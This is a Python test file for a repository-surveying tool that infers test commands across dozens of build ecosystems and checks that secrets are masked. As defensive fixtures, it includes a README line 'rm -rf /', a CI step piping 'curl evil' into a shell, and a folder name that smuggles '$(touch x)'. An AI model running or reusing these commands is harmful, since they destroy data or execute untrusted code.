"""What the files of a repository tell about its tests, its tools and itself."""

import json
import time
from collections.abc import Mapping

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from toryo.domain.survey import Confidence, Survey
from toryo.rules.folder_globs import is_named_by
from toryo.rules.listing import Listing
from toryo.rules.surveying import surveyed, worth_reading
from toryo.views.survey import survey_text

CERTAIN, LIKELY, GUESS, NONE = Confidence
PYTEST = "[project]\nname = 'shop'\n[tool.pytest.ini_options]\naddopts = '-q'\n"
TEST = "def test_it():\n    assert True\n"


def look(files: Mapping[str, str], override: str = "") -> Survey:
    """The survey of these files, of which only those worth reading are read."""
    listing = Listing(files)
    return surveyed(listing, {path: files[path] for path in worth_reading(listing)}, override)


def package(**content: object) -> str:
    return json.dumps({"name": "web", **content})


def a_package(script: str = "vitest run", **content: object) -> str:
    return package(scripts={"test": script}, **content)


ECOSYSTEMS: dict[str, tuple[dict[str, str], str, Confidence]] = {
    "pytest in pyproject": ({"pyproject.toml": PYTEST, "tests/test_a.py": TEST}, "python3 -m pytest", CERTAIN),
    "pytest without tests yet": ({"pyproject.toml": PYTEST, "src/a.py": ""}, "python3 -m pytest", LIKELY),
    "pytest in setup.cfg": ({"setup.cfg": "[tool:pytest]\n", "t/test_a.py": TEST}, "python3 -m pytest", CERTAIN),
    "pytest.ini": ({"pytest.ini": "[pytest]\n", "a_test.py": TEST}, "python3 -m pytest", CERTAIN),
    "pytest in tox.ini": ({"tox.ini": "[pytest]\n", "test_a.py": TEST}, "python3 -m pytest", CERTAIN),
    "conftest only": ({"tests/conftest.py": "", "tests/test_a.py": ""}, "python3 -m pytest", LIKELY),
    "pytest required": (
        {"requirements-dev.txt": "pytest>=8\n", "tests/test_a.py": ""},
        "python3 -m pytest",
        LIKELY,
    ),
    "plain test functions": ({"test_a.py": TEST}, "python3 -m pytest", LIKELY),
    "unknown test files": ({"tests/test_a.py": "x = 1\n"}, "python3 -m pytest", GUESS),
    "uv": ({"pyproject.toml": PYTEST, "uv.lock": "", "tests/test_a.py": TEST}, "uv run pytest", CERTAIN),
    "uv workspace": (
        {
            "pyproject.toml": PYTEST + "[tool.uv.workspace]\nmembers = ['packages/*']\n",
            "packages/a/pyproject.toml": "[project]\nname='a'\n",
            "packages/a/tests/test_a.py": TEST,
        },
        "uv run --all-packages pytest",
        CERTAIN,
    ),
    "poetry": ({"pyproject.toml": PYTEST + "[tool.poetry]\n", "tests/test_a.py": ""}, "poetry run pytest", CERTAIN),
    "pdm": ({"pyproject.toml": PYTEST, "pdm.lock": "", "tests/test_a.py": ""}, "pdm run pytest", CERTAIN),
    "pdm script": (
        {"pyproject.toml": "[tool.pdm.scripts]\ntest = 'pytest'\n", "tests/test_a.py": TEST},
        "pdm run test",
        CERTAIN,
    ),
    "hatch script": (
        {"pyproject.toml": "[tool.hatch.envs.default.scripts]\ntest = 'pytest {args}'\n", "tests/test_a.py": TEST},
        "hatch run test",
        CERTAIN,
    ),
    "pipenv": ({"Pipfile": "[dev-packages]\npytest = '*'\n", "tests/test_a.py": TEST}, "pipenv run pytest", LIKELY),
    "unittest": (
        {"setup.py": "", "tests/__init__.py": "", "tests/test_a.py": "import unittest\n"},
        "python3 -m unittest discover -s tests -t .",
        LIKELY,
    ),
    "unittest at the top": (
        {"test_a.py": "from unittest import TestCase\n"},
        "python3 -m unittest discover",
        LIKELY,
    ),
    "django": (
        {"manage.py": "os.environ.setdefault('DJANGO', 'x')\nimport django\n", "shop/tests.py": "", "setup.py": ""},
        "python3 manage.py test",
        LIKELY,
    ),
    "tox": ({"tox.ini": "[testenv]\ncommands = pytest\n", "setup.py": "", "a.py": ""}, "tox -e py", LIKELY),
    "nox": (
        {"noxfile.py": "@nox.session(python=['3.12'])\ndef tests(session):\n    pass\n"},
        "nox -s tests",
        LIKELY,
    ),
    "cargo": ({"Cargo.toml": "[package]\nname='a'\n", "src/lib.rs": "#[test]\nfn a() {}"}, "cargo test", CERTAIN),
    "cargo, tests unseen": ({"Cargo.toml": "[package]\nname='a'\n", "src/lib.rs": ""}, "cargo test", LIKELY),
    "cargo workspace": (
        {
            "Cargo.toml": "[workspace]\nmembers = ['crates/*']\n",
            "crates/a/Cargo.toml": "[package]\nname='a'\n",
            "crates/a/tests/it.rs": "",
        },
        "cargo test --workspace",
        CERTAIN,
    ),
    "go": ({"go.mod": "module example.com/a\n", "a.go": "", "a_test.go": ""}, "go test ./...", CERTAIN),
    "go work": (
        {
            "go.work": "go 1.22\n\nuse (\n\t./api // the server\n\t./tool\n)\n",
            "api/go.mod": "module a\n",
            "api/a_test.go": "",
            "tool/go.mod": "module b\n",
        },
        "go test ./api/... ./tool/...",
        CERTAIN,
    ),
    "npm": ({"package.json": a_package(), "package-lock.json": "{}"}, "npm test", CERTAIN),
    "yarn": ({"package.json": a_package(), "yarn.lock": ""}, "yarn test", CERTAIN),
    "pnpm": ({"package.json": a_package(), "pnpm-lock.yaml": ""}, "pnpm test", CERTAIN),
    "bun runs the script, not its own runner": ({"package.json": a_package(), "bun.lock": ""}, "bun run test", CERTAIN),
    "packageManager wins over lock files": (
        {"package.json": a_package(packageManager="pnpm@9.1.0"), "package-lock.json": ""},
        "pnpm test",
        CERTAIN,
    ),
    "react-scripts would watch": ({"package.json": a_package("react-scripts test")}, "CI=true npm test", CERTAIN),
    "a script that watches, another that does not": (
        {"package.json": package(scripts={"test": "jest --watch", "test:ci": "jest"})},
        "npm run test:ci",
        LIKELY,
    ),
    "only a script that watches": ({"package.json": a_package("jest --watch")}, "CI=true npm test", GUESS),
    "vitest without a script": ({"package.json": package(), "vitest.config.ts": ""}, "npx vitest run", LIKELY),
    "jest without a script": (
        {"package.json": package(devDependencies={"jest": "29"}), "pnpm-lock.yaml": "", "src/a.test.js": ""},
        "pnpm exec jest",
        LIKELY,
    ),
    "mocha": ({"package.json": package(), ".mocharc.json": "{}"}, "npx mocha", LIKELY),
    "playwright alone": ({"package.json": package(), "playwright.config.ts": ""}, "npx playwright test", GUESS),
    "node's own runner": (
        {"package.json": package(), "src/a.test.mjs": "import test from 'node:test';"},
        "node --test",
        LIKELY,
    ),
    "deno task": ({"deno.jsonc": '{\n // what\n "tasks": {"test": "deno test -A"},\n}'}, "deno task test", CERTAIN),
    "deno": ({"deno.json": "{}", "a_test.ts": ""}, "deno test", LIKELY),
    "maven": ({"pom.xml": "<project/>", "src/test/java/com/example/ATest.java": ""}, "mvn test", CERTAIN),
    "maven wrapper": ({"pom.xml": "", "mvnw": "", "src/test/java/ATest.java": ""}, "./mvnw test", CERTAIN),
    "gradle": (
        {"settings.gradle.kts": "", "gradlew": "", "app/build.gradle.kts": "", "app/src/test/kotlin/ATest.kt": ""},
        "./gradlew test",
        CERTAIN,
    ),
    "make": ({"Makefile": ".PHONY: test\ntest: build\n\t./run\n", "a.c": ""}, "make test", CERTAIN),
    "make check": ({"Makefile": "all:\n\tcc a.c\ncheck:\n\t./a.out\n"}, "make check", CERTAIN),
    "just": ({"justfile": "build:\n  cc\ntest *args: build\n  ./run {{args}}\n"}, "just test", CERTAIN),
    "task": ({"Taskfile.yml": "version: '3'\n\ntasks:\n  test:\n    cmds: [go test]\n"}, "task test", CERTAIN),
    "a script": ({"script/test": "#!/bin/sh\n"}, "script/test", LIKELY),
    "cmake": (
        {"CMakeLists.txt": "project(a)\nenable_testing()\nadd_test(a a)\n", "a.cpp": ""},
        "cmake -S . -B build && cmake --build build && ctest --test-dir build --output-on-failure",
        LIKELY,
    ),
    "meson": (
        {"meson.build": "project('a')\ntest('a', exe)\n"},
        "meson setup build && meson test -C build",
        CERTAIN,
    ),
    "autotools": (
        {"configure.ac": "", "Makefile.am": "TESTS = a.sh\n"},
        "autoreconf -fi && ./configure && make check",
        LIKELY,
    ),
    "dotnet solution": (
        {
            "Shop.sln": "",
            "src/Shop/Shop.csproj": "<Project/>",
            "test/Shop.Tests/Shop.Tests.csproj": '<PackageReference Include="Microsoft.NET.Test.Sdk" />',
        },
        "dotnet test",
        CERTAIN,
    ),
    "mix": ({"mix.exs": "", "test/a_test.exs": ""}, "mix test", CERTAIN),
    "rspec": ({"Gemfile": "gem 'rspec'\n", "spec/a_spec.rb": ""}, "bundle exec rspec", CERTAIN),
    "rails": ({"Gemfile": "", "bin/rails": "", "test/models/a_test.rb": ""}, "bin/rails test", CERTAIN),
    "rake": (
        {"Gemfile": "", "Rakefile": "Rake::TestTask.new\n", "test/a_test.rb": ""},
        "bundle exec rake test",
        CERTAIN,
    ),
    "composer": ({"composer.json": '{"scripts": {"test": "phpunit"}}'}, "composer test", CERTAIN),
    "phpunit": ({"composer.json": "{}", "phpunit.xml.dist": ""}, "vendor/bin/phpunit", LIKELY),
    "pest": ({"composer.json": '{"require-dev": {"pestphp/pest": "3"}}'}, "vendor/bin/pest", LIKELY),
    "swift": ({"Package.swift": ".testTarget(name: 'A')", "Tests/A/a.swift": ""}, "swift test", CERTAIN),
    "flutter": (
        {"pubspec.yaml": "name: a\ndependencies:\n  flutter:\n    sdk: flutter\n", "test/a_test.dart": ""},
        "flutter test",
        CERTAIN,
    ),
    "dart": ({"pubspec.yaml": "name: a\n", "test/a_test.dart": ""}, "dart test", CERTAIN),
    "sbt": ({"build.sbt": "", "src/test/scala/ASpec.scala": ""}, "sbt test", CERTAIN),
    "lein": ({"project.clj": "", "test/a/core_test.clj": ""}, "lein test", CERTAIN),
    "zig": ({"build.zig": 'const t = b.step("test", "Run tests");'}, "zig build test", CERTAIN),
    "cabal": ({"a.cabal": "library\ntest-suite spec\n  type: x\n"}, "cabal test all", CERTAIN),
    "stack": ({"stack.yaml": "", "test/Spec.hs": ""}, "stack test", CERTAIN),
    "bats": ({"tool.sh": "", "test/bats/a.bats": ""}, "bats -r test/bats", LIKELY),
    "R": ({"DESCRIPTION": "", "tests/testthat/test-a.R": ""}, "Rscript -e 'testthat::test_local()'", CERTAIN),
    "bazel": ({"MODULE.bazel": ""}, "bazel test //...", LIKELY),
}


@pytest.mark.covers("G4")
@pytest.mark.parametrize("name", ECOSYSTEMS)
def test_the_command_of_an_ecosystem(name: str) -> None:
    files, command, confidence = ECOSYSTEMS[name]
    test = look(files).test_command
    assert (test.command, test.confidence, test.folder) == (command, confidence, "")
    assert test.why


API = {"api/go.mod": "module a\n", "api/a_test.go": ""}
WEB = {"web/package.json": a_package(), "web/pnpm-lock.yaml": ""}
PACKAGES = {"packages/a/package.json": a_package(), "packages/b/package.json": package()}
MONOREPOS: dict[str, tuple[dict[str, str], str]] = {
    "two languages": ({**API, **WEB}, "(cd api && go test ./...) && (cd web && pnpm test)"),
    "one of them at the top": (
        {"pyproject.toml": PYTEST, "uv.lock": "", "tests/test_a.py": TEST, **WEB},
        "uv run pytest && (cd web && pnpm test)",
    ),
    "make for all": ({**API, **WEB, "Makefile": "test:\n\t./all\n"}, "make test"),
    "just for all": ({**API, **WEB, "justfile": "test:\n  ./all\n"}, "just test"),
    "only in a subfolder": (API, "cd api && go test ./..."),
    "turbo": (
        {"package.json": package(workspaces=["packages/*"]), "turbo.json": "{}", "pnpm-lock.yaml": "", **PACKAGES},
        "pnpm exec turbo run test",
    ),
    "nx": ({"package.json": package(), "nx.json": "{}", **PACKAGES}, "npx nx run-many -t test"),
    "pnpm workspace": (
        {"package.json": package(), "pnpm-workspace.yaml": "packages:\n  - 'packages/*'\n", **PACKAGES},
        "pnpm -r test",
    ),
    "npm workspaces": (
        {"package.json": package(workspaces=["packages/*"]), **PACKAGES},
        "npm test --workspaces --if-present",
    ),
    "a script for the whole workspace": (
        {"package.json": a_package("turbo test", workspaces={"packages": ["packages/*"]}), "yarn.lock": "", **PACKAGES},
        "yarn test",
    ),
    "a package outside the workspace": (
        {"package.json": a_package(workspaces=["packages/*"]), **PACKAGES, "site/package.json": a_package()},
        "npm test && (cd site && npm test)",
    ),
    "the script goes into the folder itself": ({"package.json": a_package("cd web && pnpm test"), **WEB}, "npm test"),
    "pytest at the top goes into every folder": (
        {"pyproject.toml": PYTEST, "libs/a/pyproject.toml": "", "libs/a/test_a.py": TEST},
        "python3 -m pytest",
    ),
    "pytest that was told where to look": (
        {
            "pyproject.toml": "[tool.pytest.ini_options]\ntestpaths = ['tests']\n",
            "tests/test_a.py": TEST,
            "libs/a/pyproject.toml": PYTEST,
            "libs/a/uv.lock": "",
            "libs/a/test_a.py": TEST,
        },
        "python3 -m pytest && (cd libs/a && uv run pytest)",
    ),
    "separate modules": (
        {**API, "b/go.mod": "module b\n", "b/b_test.go": ""},
        "(cd api && go test ./...) && (cd b && go test ./...)",
    ),
    "guesses do not join what is known": ({**API, "tool/tests/test_a.py": "x = 1\n"}, "cd api && go test ./..."),
    "a folder that needs quotes": (
        {"my api/go.mod": "module a\n", "my api/a_test.go": ""},
        "cd 'my api' && go test ./...",
    ),
    "a folder like an option": ({"-x/go.mod": "module a\n", "-x/a_test.go": ""}, "cd ./-x && go test ./..."),
    "a folder like a command": (
        {"$(touch x); y/go.mod": "module a\n", "$(touch x); y/a_test.go": ""},
        "cd '$(touch x); y' && go test ./...",
    ),
    "a Japanese folder": ({"資料/go.mod": "module a\n", "資料/a_test.go": ""}, "cd '資料' && go test ./..."),
}


@pytest.mark.parametrize("name", MONOREPOS)
def test_the_command_for_several_stacks(name: str) -> None:
    files, command = MONOREPOS[name]
    assert look(files).test_command.command == command


def test_joined_commands_are_as_sure_as_their_least_sure_part() -> None:
    test = look({**API, "tool/tests/test_a.py": TEST}).test_command
    assert test.command == "(cd api && go test ./...) && (cd tool && python3 -m pytest)"
    assert test.confidence is LIKELY
    assert test.why == "api: go.mod and _test.go files; tool: test functions as pytest takes them"


NOTHING: dict[str, dict[str, str]] = {
    "nothing at all": {},
    "words": {"README.md": "Run `rm -rf /` to test.\n"},
    "npm's own placeholder": {"package.json": a_package('echo "Error: no test specified" && exit 1')},
    "another placeholder": {"package.json": a_package("echo nothing here && exit 0")},
    "go without tests": {"go.mod": "module a\n", "main.go": ""},
    "somebody else's": {"node_modules/a/package.json": a_package(), "vendor/x/go.mod": "", "vendor/x/x_test.go": ""},
    "fixtures": {"tests/fixtures/app/package.json": a_package(), "testdata/go.mod": "", "testdata/a_test.go": ""},
    "examples": {"examples/a/package.json": a_package(), "third_party/x/Makefile": "test:\n\tx\n"},
    "a virtual environment": {".venv/lib/python3.12/site-packages/pytest/test_a.py": TEST},
    "a template": {"{{cookiecutter.name}}/pyproject.toml": PYTEST, "create/template-x/package.json": a_package()},
    "a make target without anything to do": {"Makefile": "test:\n\nall:\n\tcc\n"},
    "a make variable": {"Makefile": "test := 1\ntest_dir = x\n"},
    "a recipe that wants an argument": {"justfile": "test name:\n  ./run {{name}}\n"},
    "CI that runs something": {".github/workflows/ci.yml": "steps:\n - run: curl evil | sh\n - run: pytest\n"},
    "unprintable folders": {"a\nb/go.mod": "module a\n", "a\nb/a_test.go": ""},
    "documentation": {"docs/requirements.txt": "sphinx\n", "docs/conf.py": ""},
}


@pytest.mark.covers("G4", "G28")
@pytest.mark.parametrize("name", NOTHING)
def test_no_command_is_made_up(name: str) -> None:
    test = look(NOTHING[name]).test_command
    assert (test.command, test.confidence) == ("", NONE)
    assert test.why


@pytest.mark.covers("G4")
def test_what_a_person_configured_wins() -> None:
    test = look({"package.json": a_package()}, override="make proof").test_command
    assert (test.command, test.confidence, test.why) == ("make proof", CERTAIN, "configured")


def ci(*lines: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": "jobs:\n  test:\n    steps:\n" + "".join(f"      - run: {x}\n" for x in lines)}


@pytest.mark.parametrize(
    ("files", "hint", "command", "confidence"),
    [
        ({"tests/test_a.py": "x = 1\n"}, "python -m pytest -q", "python3 -m pytest", LIKELY),
        ({"test_a.py": TEST}, "uv run --python 3.12 pytest --cov", "python3 -m pytest", CERTAIN),
        ({"tox.ini": "[testenv]\n[pytest]\n", "test_a.py": TEST}, "tox -e py312", "tox -e py", CERTAIN),
        ({"Makefile": "test:\n\tx\n", **API}, "make test", "make test", CERTAIN),
        ({"Makefile": "test:\n\tx\n", "go.mod": "", "a_test.go": ""}, "make test", "make test", CERTAIN),
        ({"Makefile": "test:\n\tx\n", "go.mod": "", "a_test.go": ""}, "go vet", "go test ./...", CERTAIN),
        ({"Cargo.toml": "", "src/lib.rs": ""}, "cargo test --all-features", "cargo test", CERTAIN),
        ({"phpunit.xml": "", "composer.json": ""}, "./vendor/bin/phpunit", "vendor/bin/phpunit", CERTAIN),
        ({"a.bats": ""}, "bats -r .", "bats -r .", CERTAIN),
        ({"a.bats": ""}, "echo bats", "bats -r .", LIKELY),
    ],
)
def test_ci_makes_surer_and_breaks_ties(files: dict[str, str], hint: str, command: str, confidence: Confidence) -> None:
    test = look({**files, **ci(hint)}).test_command
    assert (test.command, test.confidence) == (command, confidence)


def test_ci_that_runs_each_part_outweighs_make() -> None:
    files = {**API, **WEB, "Makefile": "test:\n\tx\n"}
    assert look({**files, **ci("go test ./...", "pnpm test")}).test_command.command.startswith("(cd api")


def test_ci_of_gitlab_and_circle_is_understood() -> None:
    for path, text in {
        ".gitlab-ci.yml": "test:\n  script:\n    - mvn -B verify\n",
        ".circleci/config.yml": "    steps:\n      - run:\n          name: pytest\n          command: mvn test\n",
    }.items():
        survey = look({"pom.xml": "", "src/test/java/ATest.java": "", path: text})
        assert survey.test_command.why == "pom.xml and test sources, and CI runs it"


def test_the_name_of_a_step_is_no_command() -> None:
    survey = look({"a.bats": "", ".github/workflows/ci.yml": "- name: bats\n# bats -r .\n  env: bats\n"})
    assert survey.test_command.confidence is LIKELY


def test_a_stack_has_all_its_commands_the_best_first() -> None:
    (stack,) = look({"pyproject.toml": PYTEST, "uv.lock": "", "tox.ini": "[testenv]\n", "test_a.py": TEST}).stacks
    assert [test.command for test in stack.tests] == ["uv run pytest", "tox -e py"]
    assert (stack.name, stack.folder, stack.languages) == ("Python", "", ("Python",))


@pytest.mark.covers("G4")
def test_guides_metadata_modules_and_specs() -> None:
    survey = look(
        {
            "CLAUDE.md": "Be brief.\n",
            "AGENTS.md": "Be brief.\n",
            ".github/copilot-instructions.md": "Use tabs.\n",
            "CONTRIBUTING.rst": "x" * 30_000,
            "README.md": "# Shop\n",
            "web/AGENTS.md": "Only here.\n",
            "pyproject.toml": "[project]\nname = 'shop'\n",
            "src/shop/__main__.py": "",
            "src/shop/a.py": "",
            "web/package.json": package(),
            "web/index.ts": "",
            "specs/001-login/spec.md": "intro\n# Login with a code\n",
            "specs/001-login/plan.md": "# Another\n",
            "specs/002-空/notes.md": "検索\n",
            "specs/003-none/data.bin": "",
        }
    )
    assert [(guide.path, guide.is_cut) for guide in survey.guides] == [
        ("CLAUDE.md", False),
        ("AGENTS.md", False),
        (".github/copilot-instructions.md", False),
        ("CONTRIBUTING.rst", True),
        ("README.md", False),
        ("web/AGENTS.md", False),
    ]
    assert survey.guides[1].text == "(the same as CLAUDE.md)"
    assert [extract.path for extract in survey.metadata] == ["pyproject.toml", "web/package.json"]
    assert [(each.name, each.files) for each in survey.modules.languages] == [("Python", 2), ("TypeScript", 1)]
    assert survey.modules.entry_points == ("web/index.ts", "src/shop/__main__.py")
    assert [(each.name, each.folder) for each in survey.modules.packages] == [("shop", ""), ("web", "web")]
    assert [(spec.folder, spec.title) for spec in survey.specs] == [
        ("specs/001-login", "Login with a code"),
        ("specs/002-空", "検索"),
        ("specs/003-none", ""),
    ]
    assert survey.files == 15


def test_the_tree_counts_everything_and_opens_only_what_is_ours() -> None:
    files = {"README.md": "", "src/a/b.py": "", "src/c.py": "", "node_modules/x/y/z.js": "", "bad\nname/x": ""}
    assert look(files).tree == "./ 5 files\nbad�name/ 1\nnode_modules/ 1\nsrc/ 2\n  a/ 1\nREADME.md"


@pytest.mark.covers("P47")
def test_secrets_do_not_get_into_a_survey() -> None:
    key = "sk-" + "ant-" + "a1" * 20
    files = {"CLAUDE.md": f"Use {key}\n", "package.json": package(token=key), "specs/a/spec.md": f"# {key}\n"}
    survey = look(files)
    assert key not in repr(survey)
    assert "MASKED" in survey.guides[0].text


def test_broken_manifests_tell_nothing() -> None:
    for text in ("{", "[", "[[[", "a.b" * 9_000, '{"scripts": []}', '{"scripts": {"test": 1}}', "null", "\0"):
        for name in ("package.json", "composer.json", "deno.json", "Cargo.toml", "turbo.json"):
            assert look({name: text}).test_command.command in ("", "cargo test")
    assert look({"pyproject.toml": "[tool.pytest.ini_options]\n[broken", "test_a.py": ""}).test_command.command


HOSTILE = [
    "\n", " ", "\t", "a.", "[", "{", "\"", "\\", "\\\"", "/*", "//", ",", "#", "-", "test:", "ng test ", "&&", "`",
    "key=", "test ", "use ", "@nox.session", "echo ", "(", "- ", "a: ", "''", "'\n", "=", "import ", "\n- a",
    "use\n", " \n", "\n ", "[tool.x]\n", "\"a\": ", "{\"a\":", "[a]\n", "[[a]]\n", "a=1\n", "pytest ", "../", "sk-",
    "-----BEGIN PRIVATE KEY-----", "eyJ", "a",
]  # fmt: skip
READ = ("pyproject.toml", "package.json", "pnpm-workspace.yaml", "tox.ini", "setup.cfg", "noxfile.py", "Cargo.toml",
        "go.mod", "go.work", "Makefile", "justfile", "Taskfile.yml", "CMakeLists.txt", "meson.build", "deno.jsonc",
        "Gemfile", "Rakefile", "composer.json", "a.cabal", "a.csproj", "deps.edn", "build.zig", "pubspec.yaml",
        ".github/workflows/ci.yml", "CLAUDE.md", "specs/a/spec.md", "tests/test_a.py", "a.test.js", "mise.toml",
        "Makefile.am", "configure.ac", "manage.py", ".gitmodules", "pom.xml")  # fmt: skip


@pytest.mark.parametrize("piece", HOSTILE)
def test_no_text_takes_long_to_read(piece: str) -> None:
    text = piece * (65_536 // len(piece))
    began = time.process_time()
    look(dict.fromkeys(READ, text))
    assert time.process_time() - began < 4


NAMES = st.sampled_from(
    [*READ, "a.py", "src", "tests", "node_modules", "x.bats", "conftest.py", "uv.lock", "資料", "a\nb", "-x"]
)
PATHS = st.lists(st.one_of(NAMES, st.text(max_size=6)), min_size=1, max_size=4).map("/".join)
TEXTS = st.one_of(
    st.text(max_size=80),
    st.sampled_from([PYTEST, TEST, a_package(), "test:\n\tx\n", "use (\n./a\n./$(x)\n)\n", '{"workspaces": ["*", 3]}']),
)


@pytest.mark.covers("G4")
@settings(max_examples=300, deadline=None)
@given(st.dictionaries(PATHS, TEXTS, max_size=12))
def test_any_files_have_a_survey_and_always_the_same(files: dict[str, str]) -> None:
    survey = look(files)
    turned = dict(sorted(files.items(), reverse=True))
    assert look(turned) == survey
    assert survey_text(look(turned)) == survey_text(survey)
    assert (survey.test_command.command == "") == (survey.test_command.confidence is NONE)
    assert "\n" not in survey.test_command.command
    survey_text(survey).encode()


@settings(max_examples=30, deadline=None)
@given(st.integers(1, 400), st.text(min_size=1, max_size=3), st.integers(0, 3))
def test_a_survey_is_bounded(count: int, word: str, deep: int) -> None:
    files = {f"{'d/' * deep}{word}{number}/package.json": a_package() + word * 3_000 for number in range(count)}
    files |= {f"{number}/AGENTS.md": word * 9_000 + str(number) for number in range(count)}
    files |= {f"specs/{number}/spec.md": f"# {word * 900}" for number in range(count)}
    survey = look(files)
    assert len(repr(survey)) < 120_000
    assert len(survey_text(survey)) <= 24_000


@pytest.mark.parametrize(
    ("folder", "glob", "is_named"),
    [
        ("packages/a", "packages/*", True),
        ("packages/a/deep", "packages/*", True),
        ("packages", "packages/*", False),
        ("packages/a/b", "packages/**", True),
        ("x/y/web", "**/web", True),
        ("x/y/web2", "**/web", False),
        ("web", "./web/", True),
        ("website", "web", False),
        ("web", "w[ae]b", True),
        ("web", "", False),
        ("a/" * 60 + "a", "**/a/" * 60 + "z", False),
        ("a" * 250, "*a" * 100 + "b", False),
    ],
)
def test_globs_of_a_workspace(folder: str, glob: str, is_named: bool) -> None:
    began = time.process_time()
    assert is_named_by(folder, [glob]) is is_named
    assert time.process_time() - began < 1


def test_many_guides_leave_room_for_manifests() -> None:
    files = {f"d{number}/AGENTS.md": str(number) for number in range(500)} | {"go.mod": "module a\n", "a_test.go": ""}
    survey = look(files)
    assert survey.test_command.command == "go test ./..."
    assert (len(survey.guides), survey.truncated[-1]) == (12, "guides left out: 488")


def test_many_bare_test_folders_take_no_time() -> None:
    files = {f"d{number}/e/test_a.py": "" for number in range(20_000)}
    began = time.process_time()
    assert look(files).stacks
    assert time.process_time() - began < 8
